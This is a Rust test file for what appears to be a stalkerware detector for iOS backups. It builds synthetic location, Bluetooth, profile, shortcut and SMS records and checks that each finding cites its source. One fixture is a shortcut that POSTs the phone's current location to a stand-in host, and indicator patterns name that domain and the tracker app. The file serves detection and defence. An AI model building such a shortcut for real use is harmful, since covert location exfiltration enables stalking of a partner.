//! What matters when a partner may be watching, from a backup written by the project's
//! writer with the files where iOS keeps it: an app that may follow the location at all
//! times, a paired watch and Bluetooth devices, profiles installed and removed, a shortcut
//! that sends the location, and a received attachment left where exploits leave theirs.
//! Each is shown to the operator with the file and entry it comes from; system services and
//! ordinary shortcuts are not.

mod common;

use plist::{Dictionary, Value};
use vigie_core::{Evidence, Severity};
use vigie_ios::synthetic::{database, write_backup, PhoneFile};
use vigie_ios::{Backup, IosBackup};

fn xml(v: Value) -> Vec<u8> {
    let mut out = Vec::new();
    v.to_writer_xml(&mut out).expect("plist");
    out
}

fn binary(v: Value) -> Vec<u8> {
    let mut out = Vec::new();
    v.to_writer_binary(&mut out).expect("plist");
    out
}

fn dict(entries: &[(&str, Value)]) -> Value {
    let mut d = Dictionary::new();
    for (k, v) in entries {
        d.insert((*k).to_owned(), v.clone());
    }
    Value::Dictionary(d)
}

fn text(s: &str) -> Value {
    Value::String(s.to_owned())
}

fn date(s: &str) -> Value {
    Value::Date(plist::Date::from_xml_format(s).expect("date"))
}

/// locationd's clients: a tracker allowed always, a maps app while in use, an Apple app and
/// a system service allowed always, and a number iOS keeps beside them.
fn location_clients() -> Vec<u8> {
    binary(dict(&[
        (
            "com.spyco.tracker",
            dict(&[
                ("BundleId", text("com.spyco.tracker")),
                ("Authorization", Value::Integer(3.into())),
                ("LocationTimeStopped", Value::Real(785_000_000.0)),
                ("BackgroundLocationTimeStopped", Value::Real(785_100_000.0)),
            ]),
        ),
        (
            "com.example.maps",
            dict(&[
                ("BundleId", text("com.example.maps")),
                ("Authorization", Value::Integer(4.into())),
            ]),
        ),
        (
            "com.apple.Maps",
            dict(&[("Authorization", Value::Integer(3.into()))]),
        ),
        (
            "com.apple.locationd.bundle-/System/Library/LocationBundles/Routine.bundle:",
            dict(&[("Authorization", Value::Integer(3.into()))]),
        ),
        ("MigrationVersion", Value::Integer(2.into())),
    ]))
}

fn action(ident: &str, params: Value) -> Value {
    dict(&[
        ("WFWorkflowActionIdentifier", text(ident)),
        ("WFWorkflowActionParameters", params),
    ])
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02X}")).collect()
}

/// Two shortcuts: one sends the location to a web address every time it runs, one only
/// starts a timer.
fn shortcuts() -> Vec<u8> {
    let sends = binary(Value::Array(vec![
        action("is.workflow.actions.getcurrentlocation", dict(&[])),
        action(
            "is.workflow.actions.downloadurl",
            dict(&[
                ("WFURL", text("https://spy-upload.example/loc?id=7")),
                ("WFHTTPMethod", text("POST")),
            ]),
        ),
    ]));
    let timer = binary(Value::Array(vec![action(
        "is.workflow.actions.timer.start",
        dict(&[("WFDuration", text("10 min"))]),
    )]));
    database(&format!(
        "CREATE TABLE ZSHORTCUT (Z_PK INTEGER PRIMARY KEY, ZNAME VARCHAR, ZCREATIONDATE TIMESTAMP, ZMODIFICATIONDATE TIMESTAMP, ZACTIONSDESCRIPTION BLOB);
         CREATE TABLE ZSHORTCUTACTIONS (Z_PK INTEGER PRIMARY KEY, ZSHORTCUT INTEGER, ZDATA BLOB);
         INSERT INTO ZSHORTCUT VALUES (1, 'Météo', 784000000, 784000000, NULL);
         INSERT INTO ZSHORTCUT VALUES (2, 'Minuteur', 784000100, 784000100, NULL);
         INSERT INTO ZSHORTCUTACTIONS VALUES (1, 1, X'{}');
         INSERT INTO ZSHORTCUTACTIONS VALUES (2, 2, X'{}');",
        hex(&sends),
        hex(&timer)
    ))
    .expect("Shortcuts.sqlite")
}

fn profile_events() -> Vec<u8> {
    xml(dict(&[(
        "ProfileEvents",
        Value::Array(vec![
            dict(&[(
                "com.example.familysafety",
                dict(&[
                    ("timestamp", date("2026-10-02T21:14:00Z")),
                    ("operation", text("install")),
                    ("process", text("profiled")),
                ]),
            )]),
            dict(&[(
                "com.example.oldvpn",
                dict(&[
                    ("timestamp", date("2026-10-20T08:00:00Z")),
                    ("operation", text("remove")),
                    ("process", text("Preferences")),
                ]),
            )]),
        ]),
    )]))
}

fn bluetooth_classic() -> Vec<u8> {
    binary(dict(&[
        (
            "AA:BB:CC:00:11:22",
            dict(&[
                ("Name", text("Car kit")),
                ("LastSeenTime", Value::Real(1_750_000_000.0)),
            ]),
        ),
        (
            "AA:BB:CC:00:11:33",
            dict(&[("DefaultName", text("Speaker"))]),
        ),
    ]))
}

fn bluetooth_low_energy() -> Vec<u8> {
    database(
        "CREATE TABLE PairedDevices (Uuid TEXT, Name TEXT, NameOrigin INTEGER, Address TEXT, ResolvedAddress TEXT, LastSeenTime INTEGER, LastConnectionTime INTEGER);
         INSERT INTO PairedDevices VALUES ('5C1E0000-0000-4000-8000-00000000000A', 'Band 7', 1, 'Random DE:AD:BE:EF:00:01', NULL, 1790000000, 1790000000);",
    )
    .expect("ledevices.paired.db")
}

fn sms() -> Vec<u8> {
    database(
        "CREATE TABLE message (ROWID INTEGER PRIMARY KEY, text TEXT, date INTEGER, handle_id INTEGER);
         CREATE TABLE handle (ROWID INTEGER PRIMARY KEY, id TEXT);
         CREATE TABLE attachment (ROWID INTEGER PRIMARY KEY, filename TEXT, created_date INTEGER, is_outgoing INTEGER);
         INSERT INTO attachment VALUES (1, '/var/tmp/com.apple.messages/3A5F2E-1', 700000000, 0);
         INSERT INTO attachment VALUES (2, '~/Library/SMS/Attachments/aa/00/IMG_0001.HEIC', 700000100, 0);
         INSERT INTO attachment VALUES (3, '/var/tmp/com.apple.messages/sent-1', 700000200, 1);",
    )
    .expect("sms.db")
}

fn read() -> IosBackup {
    let dir = std::env::temp_dir().join(format!("vigie-ios-facts-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let file = |domain: &str, path: &str, content: Vec<u8>| PhoneFile {
        domain: domain.into(),
        path: path.into(),
        content,
    };
    let bluetooth = "SysSharedContainerDomain-systemgroup.com.apple.bluetooth";
    let files = [
        file(
            "RootDomain",
            "Library/Caches/locationd/clients.plist",
            location_clients(),
        ),
        file(
            "HomeDomain",
            "Library/Shortcuts/Shortcuts.sqlite",
            shortcuts(),
        ),
        file(
            "SysSharedContainerDomain-systemgroup.com.apple.configurationprofiles",
            "Library/ConfigurationProfiles/MCProfileEvents.plist",
            profile_events(),
        ),
        file(
            bluetooth,
            "Library/Preferences/com.apple.MobileBluetooth.devices.plist",
            bluetooth_classic(),
        ),
        file(
            bluetooth,
            "Library/Database/com.apple.MobileBluetooth.ledevices.paired.db",
            bluetooth_low_energy(),
        ),
        file(
            "HomeDomain",
            "Library/DeviceRegistry/2D6F1B9A-77E2-4F0B-9C55-0A1B2C3D4E5F/NanoPreferencesSync/com.apple.nano.plist",
            xml(dict(&[])),
        ),
        file(
            "HomeDomain",
            "Library/DeviceRegistry.state/activeStateMachine.plist",
            xml(dict(&[])),
        ),
        file("HomeDomain", "Library/SMS/sms.db", sms()),
    ];
    write_backup(&dir, &files, &[], None).expect("backup");
    let read = vigie_ios::read_backup(&Backup::open(&dir, None).expect("open")).expect("read");
    let _ = std::fs::remove_dir_all(&dir);
    read
}

fn indicators() -> vigie_indicators::IndicatorSet {
    common::spyco_indicators(
        "facts",
        &[
            "[domain-name:value='spy-upload.example']",
            "[process:name='com.spyco.tracker']",
        ],
    )
}

fn locators(f: &vigie_core::Finding) -> Vec<String> {
    f.evidence
        .iter()
        .map(|e| match e {
            Evidence::Record { locator, .. } => locator.clone(),
            other => format!("{other:?}"),
        })
        .collect()
}

#[test]
fn what_matters_in_abuse_is_shown_with_its_source() {
    let b = read();
    let modules = [
        "locationd",
        "paired_devices",
        "profile_events",
        "shortcuts",
        "sms_attachments",
    ];
    common::assert_modules_read(&b, &modules);
    let verdict = vigie_ios::check(&b, &indicators());
    let all = |r: &str| -> Vec<&vigie_core::Finding> {
        verdict.findings.iter().filter(|f| f.rule == r).collect()
    };

    // Only the installed app allowed at all times: not the one allowed while in use, not
    // Apple's own app nor a system service.
    let always = all("IOS-LOCATION-ALWAYS");
    assert_eq!(always.len(), 1, "{always:?}");
    assert_eq!(always[0].subject, "com.spyco.tracker");
    assert_eq!(always[0].severity, Severity::Info);
    // The latest of its recorded times (785 100 000 s after 2001).
    assert_eq!(
        always[0].explanation.args.get("when").map(String::as_str),
        Some("2025-11-17T19:20:00.000000Z")
    );
    // Its name as a process matches the indicator, naming the plist entry.
    let process = all("IOS-IOC-PROCESS");
    assert_eq!(process.len(), 1);
    assert_eq!(locators(process[0]), vec!["com.spyco.tracker"]);

    let watch = all("IOS-PAIRED-WATCH");
    assert_eq!(watch.len(), 1);
    assert_eq!(watch[0].subject, "2D6F1B9A-77E2-4F0B-9C55-0A1B2C3D4E5F");
    let bluetooth = all("IOS-PAIRED-BLUETOOTH");
    assert_eq!(bluetooth.len(), 1);
    // Most recently seen first; a device never seen last.
    assert_eq!(
        locators(bluetooth[0]),
        vec![
            "Random DE:AD:BE:EF:00:01",
            "AA:BB:CC:00:11:22",
            "AA:BB:CC:00:11:33"
        ]
    );

    let events = all("IOS-PROFILE-EVENT");
    assert_eq!(events.len(), 2);
    assert!(events
        .iter()
        .any(|e| e.title.key == "ios-profile-event-removed-title"
            && e.title.args.get("name").map(String::as_str) == Some("com.example.oldvpn")));
    assert!(events.iter().all(|e| e.severity == Severity::Low));

    let sends = all("IOS-SHORTCUT-SENDS");
    assert_eq!(sends.len(), 1, "the timer is not flagged");
    assert_eq!(
        sends[0].title.args.get("name").map(String::as_str),
        Some("Météo")
    );
    assert_eq!(locators(sends[0]), vec!["ZSHORTCUT Z_PK 1"]);
    let url = all("IOS-IOC-URL");
    assert_eq!(url.len(), 1);
    assert_eq!(url[0].severity, Severity::High);
    assert_eq!(locators(url[0]), vec!["ZSHORTCUT Z_PK 1"]);

    // The received attachment in /var/tmp ending in -1, not the sent one nor the photo.
    let traces = all("IOS-EXPLOIT-TRACE");
    assert_eq!(traces.len(), 1);
    assert_eq!(traces[0].subject, "tmp-attachment");
    assert_eq!(locators(traces[0]), vec!["attachment ROWID 1"]);

    // Every fact read is said in the coverage; what the backup cannot hold is said too.
    let checked: Vec<&str> = verdict
        .coverage
        .checked
        .iter()
        .filter_map(|m| m.args.get("what_keys").map(String::as_str))
        .collect();
    for what in [
        "ios-what-locationd",
        "ios-what-paired_devices",
        "ios-what-profile_events",
        "ios-what-shortcuts",
    ] {
        assert!(checked.contains(&what), "{what} in {checked:?}");
    }
    assert!(verdict
        .coverage
        .not_checked
        .iter()
        .any(|m| m.key == "ios-not-covered-find-my"));
}
